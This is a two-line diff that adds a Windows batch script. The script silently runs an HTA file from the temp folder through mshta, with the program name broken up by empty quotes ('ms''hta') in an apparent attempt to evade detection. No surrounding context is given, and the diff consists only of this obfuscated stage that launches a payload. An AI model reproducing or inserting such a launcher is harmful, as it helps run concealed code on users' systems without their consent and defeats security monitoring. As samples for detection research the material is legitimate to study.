@@ -1,0 +1,2 @@
+@echo off
+ms''hta %TEMP%\s.hta
